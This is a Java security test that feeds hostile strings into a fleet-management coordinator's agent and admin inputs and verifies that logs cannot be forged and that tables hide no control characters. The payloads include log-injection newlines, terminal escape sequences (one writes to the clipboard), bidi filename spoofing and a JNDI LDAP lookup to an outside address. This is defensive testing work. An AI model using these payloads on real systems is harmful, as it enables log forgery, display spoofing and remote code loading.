package dev.holdfast.faults;

import com.google.protobuf.ByteString;
import com.google.protobuf.util.Timestamps;
import dev.holdfast.system.Launched;
import dev.holdfast.system.Rig;
import dev.holdfast.wire.agent.AgentMessage;
import dev.holdfast.wire.agent.AssignmentReference;
import dev.holdfast.wire.agent.AssignmentSet;
import dev.holdfast.wire.agent.Heartbeat;
import dev.holdfast.wire.agent.Hello;
import dev.holdfast.wire.agent.HostCondition;
import dev.holdfast.wire.agent.Lane;
import dev.holdfast.wire.agent.OutputReport;
import dev.holdfast.wire.agent.Platform;
import dev.holdfast.wire.agent.Report;
import dev.holdfast.wire.agent.RunReport;
import dev.holdfast.wire.agent.StepReport;
import dev.holdfast.wire.v1.AddTagsToResourceRequest;
import dev.holdfast.wire.v1.Association;
import dev.holdfast.wire.v1.CreateAssociationRequest;
import dev.holdfast.wire.v1.InstanceServiceGrpc;
import dev.holdfast.wire.v1.ResourceType;
import dev.holdfast.wire.v1.RunStatus;
import dev.holdfast.wire.v1.Target;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Pattern;

/** Texts that are written to be shown: in logs, in tables, in a terminal. */
final class HostileTexts implements Case {
  /** What forges a line of the log. */
  private static final String FORGED = "2026-01-01T00:00:00.000Z ERROR trust forged=yes";

  private static final List<String> TEXTS =
      List.of(
          "a\n" + FORGED,
          "b\r\n" + FORGED,
          "c\u2028" + FORGED,
          "d\u0085" + FORGED,
          "e\u001b]52;c;Zm9yZ2Vk\u0007",
          "f\u001b[2J\u001b[31mred",
          "g\u009b31mred",
          "h\u202egnp.exe\u202c",
          "i\u200b\u2066hidden\u2069",
          "j\u0000\b\u007f",
          "k%n%s${jndi:ldap://192.0.2.1/x}{}");

  private static final Pattern LINE =
      Pattern.compile(
          "^\\d{4}-\\d\\d-\\d\\dT[0-9:.]+(Z|[+-]\\d\\d:\\d\\d) (ERROR|WARN|INFO|DEBUG) .*");

  @Override
  public String id() {
    return "Z09";
  }

  @Override
  public String claim() {
    return "no text from outside begins a line of a log, moves a cursor, hides or changes what a"
        + " table shows";
  }

  @Override
  public void run(Trial trial) throws Exception {
    Rig rig = Field.coordinator(trial, Field.OPEN_DOOR + "log_level: debug\n");
    rig.createScript("texts", List.of("true"));
    int stored = 0;
    List<HandMade> agents = new ArrayList<>();
    for (String text : TEXTS) {
      HandMade agent = Field.handMade(trial, rig);
      agents.add(agent);
      String association = said(trial, rig, agent, text);
      stored += association.isEmpty() ? 0 : 1;
      strange(rig, text);
      trial.count(Figure.FAULTS, 1);
    }
    trial.figure(Figure.STORED, stored);
    trial.note("agents", agents.size());
    log(trial, rig);
    String instances = shown(rig, "get", "instances");
    trial.require(
        instances.lines().count() == TEXTS.size() + 1,
        "a table of " + TEXTS.size() + " instances has " + instances.lines().count() + " lines");
    for (String table :
        List.of(
            instances,
            shown(rig, "get", "associations"),
            shown(rig, "get", "instances", "--json"),
            shown(rig, "get", "associations", "--json"))) {
      trial.require(hidden(table).isEmpty(), "a terminal is told: " + hidden(table).orElse(""));
    }
    trial.require(rig.coordinator().alive(), "it ended: " + rig.coordinator().said());
  }

  /** Says a text wherever an agent and an admin can; the association, if one was made with it. */
  private static String said(Trial trial, Rig rig, HandMade agent, String text) throws Exception {
    String association = associate(rig, agent, text);
    tag(rig, agent, text);
    try (Talk talk = Talk.silent(agent.channel())) {
      talk.say(
          AgentMessage.newBuilder()
              .setHello(
                  Hello.newBuilder()
                      .setAgentVersion(text)
                      .setBootId(text)
                      .setSpoolEpoch("spool")
                      .setInstallNonce("nonce")
                      .setClock(Timestamps.fromMillis(System.currentTimeMillis()))
                      .setPlatform(
                          Platform.newBuilder()
                              .setType(text)
                              .setName(text)
                              .setVersion(text)
                              .setIpAddress(text)
                              .setComputerName(text))));
      Optional<AssignmentSet> set = talk.set();
      trial.require(set.isPresent(), "a host of that name is not linked: " + printable(text));
      talk.say(
          AgentMessage.newBuilder()
              .setHeartbeat(
                  Heartbeat.newBuilder()
                      .addConditions(HostCondition.newBuilder().setCode(text).setMessage(text))));
      ByteString body =
          set.map(AssignmentSet::getAssignmentsList).orElse(List.of()).stream()
              .map(AssignmentReference::getSha256)
              .findFirst()
              .orElse(ByteString.EMPTY);
      trial.require(
          talk.answered(List.of(report(1, association, text, body), report(2, text, text, body)))
              .isPresent(),
          "reports with that text are not answered: " + printable(text));
    }
    return association;
  }

  private static Report report(long sequence, String association, String text, ByteString body) {
    OutputReport output =
        OutputReport.newBuilder()
            .setHead(ByteString.copyFrom(text, StandardCharsets.UTF_8))
            .setTotalBytes(text.length())
            .build();
    return Report.newBuilder()
        .setLane(Lane.LANE_RESULTS)
        .setSequence(sequence)
        .setRun(
            RunReport.newBuilder()
                .setAssociationId(association)
                .setTrigger("change:1." + sequence)
                .setAttempt(1)
                .setStartNumber(sequence)
                .setStatus(RunStatus.RUN_STATUS_FAILED)
                .setDetailedStatus("Failed")
                .setReason(text)
                .setAssignmentSha256(body)
                .setAssociationVersion(1)
                .setDocumentVersion(1)
                .setStartTime(Timestamps.fromMillis(System.currentTimeMillis()))
                .setEndTime(Timestamps.fromMillis(System.currentTimeMillis()))
                .addSteps(
                    StepReport.newBuilder()
                        .setName(text)
                        .setAction(text)
                        .setStatus(RunStatus.RUN_STATUS_FAILED)
                        .setReason(text)
                        .setStdout(output)
                        .setStderr(output)))
        .build();
  }

  /** An association of that name, or of another if such a name is refused. */
  private static String associate(Rig rig, HandMade agent, String text) {
    for (String name : List.of(text, "plain-" + agent.instance())) {
      try {
        return rig.associations()
            .createAssociation(
                CreateAssociationRequest.newBuilder()
                    .setAssociation(
                        Association.newBuilder()
                            .setName("texts")
                            .setAssociationName(name)
                            .addTargets(
                                Target.newBuilder()
                                    .setKey("InstanceIds")
                                    .addValues(agent.instance())))
                    .build())
            .getAssociationDescription()
            .getAssociationId();
      } catch (StatusRuntimeException e) {
        if (e.getStatus().getCode() != Status.Code.INVALID_ARGUMENT) {
          throw e;
        }
      }
    }
    return "";
  }

  private static void tag(Rig rig, HandMade agent, String text) {
    try {
      var _ =
          InstanceServiceGrpc.newBlockingStub(rig.channel())
              .withCallCredentials(rig.token())
              .addTagsToResource(
                  AddTagsToResourceRequest.newBuilder()
                      .setResourceType(ResourceType.RESOURCE_TYPE_MANAGED_INSTANCE)
                      .setResourceId(agent.instance())
                      .putAllTags(Map.of("text", text))
                      .build());
    } catch (StatusRuntimeException e) {
      if (e.getStatus().getCode() != Status.Code.INVALID_ARGUMENT) {
        throw e;
      }
    }
  }

  /** Somebody who is not let in says it too. */
  private static void strange(Rig rig, String text) throws Exception {
    try {
      var _ =
          HandMade.enroll(
              rig.agentAddress(),
              Field.authority(rig),
              text,
              text,
              HandMade.request(HandMade.newKey()));
    } catch (StatusRuntimeException e) {
      // It is not let in.
    }
  }

  /** The log has one line an event, each of which begins as lines do, and nothing hidden. */
  private static void log(Trial trial, Rig rig) throws InterruptedException {
    boolean _ = Field.await(Duration.ofSeconds(1), () -> false);
    List<String> lines = rig.coordinator().said().lines().filter(line -> !line.isEmpty()).toList();
    trial.note("log-lines", lines.size());
    for (String line : lines) {
      trial.require(
          LINE.matcher(line).matches(),
          "a line of the log does not begin as one: " + printable(line));
      trial.require(hidden(line).isEmpty(), "the log hides something: " + printable(line));
      trial.require(!line.startsWith(FORGED), "a line of the log is forged");
    }
  }

  private static String shown(Rig rig, String... command) {
    List<String> call = new ArrayList<>(List.of(command));
    call.addAll(List.of("--address", rig.adminAddress()));
    call.addAll(List.of("--ca", rig.data().resolve("ca.pem").toString()));
    call.addAll(List.of("--token-file", rig.data().resolve("admin.token").toString()));
    return Launched.run(rig.folder(), "holdfast", call, 0);
  }

  /** The first character that nobody sees, if there is one. */
  private static Optional<String> hidden(String text) {
    return text.codePoints()
        .filter(
            point ->
                point != '\n'
                    && (Character.isISOControl(point)
                        || Character.getType(point) == Character.FORMAT
                        || Character.getType(point) == Character.LINE_SEPARATOR
                        || Character.getType(point) == Character.PARAGRAPH_SEPARATOR))
        .mapToObj(point -> "U+" + Integer.toHexString(point))
        .findFirst();
  }

  private static String printable(String text) {
    return text.replaceAll("[\\p{C}\\u2028\\u2029]", "?");
  }
}
